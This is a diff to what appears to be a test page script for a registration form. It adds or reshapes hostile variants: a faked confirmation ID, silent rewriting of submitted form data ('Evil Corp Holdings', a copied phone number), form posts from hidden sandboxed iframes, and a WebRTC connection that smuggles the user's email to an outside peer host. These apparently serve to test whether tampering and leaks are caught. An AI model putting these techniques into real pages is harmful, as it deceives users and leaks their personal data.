@@ -160,9 +160,27 @@
         if (FCR.variant("continue-registers") && button.id === registers) wholeForm();
         if (FCR.variant("timer-post") && CONTINUES[button.id]) setTimeout(wholeForm, 0);
         if (FCR.variant("swap-on-submit") && button.id === "submitButton") changeValues();
+        if (FCR.variant("fake-feedback") && button.id === "submitButton") {
+          // No request at all: an answer made up in the page.
+          e.preventDefault();
+          e.stopImmediatePropagation();
+          var shown = document.createElement("p");
+          shown.className = "feedback-id";
+          shown.textContent = "FCRFE12072026000000001";
+          document.body.appendChild(shown);
+        }
       },
       true
     );
+    if (FCR.variant("formdata-swap")) {
+      // The page is left as reviewed; what the form sends is changed as it is built.
+      document.addEventListener("formdata", function (e) {
+        var data = e.formData;
+        data.set("enterprise_company_name", "Evil Corp Holdings");
+        data.append("zz_copy", data.get("enterprise_phone_0") || "");
+        data.set("enterprise_phone_0", "6 1 9 5 5 5 0 1 9 9");
+      });
+    }
     if (FCR.variant("farewell")) {
       var farewell = function () {
         var form = FCR.byId("registration-form");
@@ -186,27 +204,47 @@
      step, the classic layout once the code is typed. */
   FCR.reviewShown = function () {
     if (FCR.variant("late-change")) setTimeout(changeValues, 1500);
-    if (FCR.variant("webrtc")) {
-      // An uncaught error if the browser has no WebRTC: the page's own problem.
-      setTimeout(function () {
-        var email = (FCR.byId(FCR.IDS.email) || {}).value || "";
-        var peer = new RTCPeerConnection({
-          iceServers: [
-            {
-              urls: ["turn:" + body.dataset.peer + "?transport=udp", "stun:" + body.dataset.peer],
-              username: email,
-              credential: "registration"
-            }
-          ]
-        });
-        peer.createDataChannel("registration");
-        peer.createOffer().then(function (offer) {
-          return peer.setLocalDescription(offer);
-        });
-      }, 0);
-    }
+    if (FCR.variant("sandboxed-frame")) setTimeout(sandboxedPost, 2000);
+    if (FCR.variant("webrtc")) setTimeout(openPeer, 0);
     FCR.selfPostLater();
   };
+
+  // Frames sandboxed into processes of their own post the form as their very first script runs
+  // (before anything could be set up in the new process).
+  function sandboxedPost() {
+    var form = FCR.byId("registration-form");
+    var data = new URLSearchParams(new FormData(form)).toString();
+    var url = location.origin + form.getAttribute("action");
+    for (var i = 0; i < 4; i++) {
+      // Several, as a page would: each new process is one more chance to be first.
+      var frame = document.createElement("iframe");
+      frame.sandbox = "allow-scripts";
+      frame.style.display = "none";
+      frame.srcdoc =
+        "<script>fetch(" + JSON.stringify(url) + ", {method: 'POST', mode: 'no-cors', headers: " +
+        "{'Content-Type': 'application/x-www-form-urlencoded'}, body: " + JSON.stringify(data) +
+        "});<" + "/script>";
+      document.body.appendChild(frame);
+    }
+  }
+
+  // An uncaught error if the browser has no WebRTC: the page's own problem.
+  function openPeer() {
+    var email = (FCR.byId(FCR.IDS.email) || {}).value || "";
+    var peer = new RTCPeerConnection({
+      iceServers: [
+        {
+          urls: ["turn:" + body.dataset.peer + "?transport=udp", "stun:" + body.dataset.peer],
+          username: email,
+          credential: "registration"
+        }
+      ]
+    });
+    peer.createDataChannel("registration");
+    peer.createOffer().then(function (offer) {
+      return peer.setLocalDescription(offer);
+    });
+  }
 
   FCR.selfPostLater = function () {
     if (!FCR.has("self-post")) return;
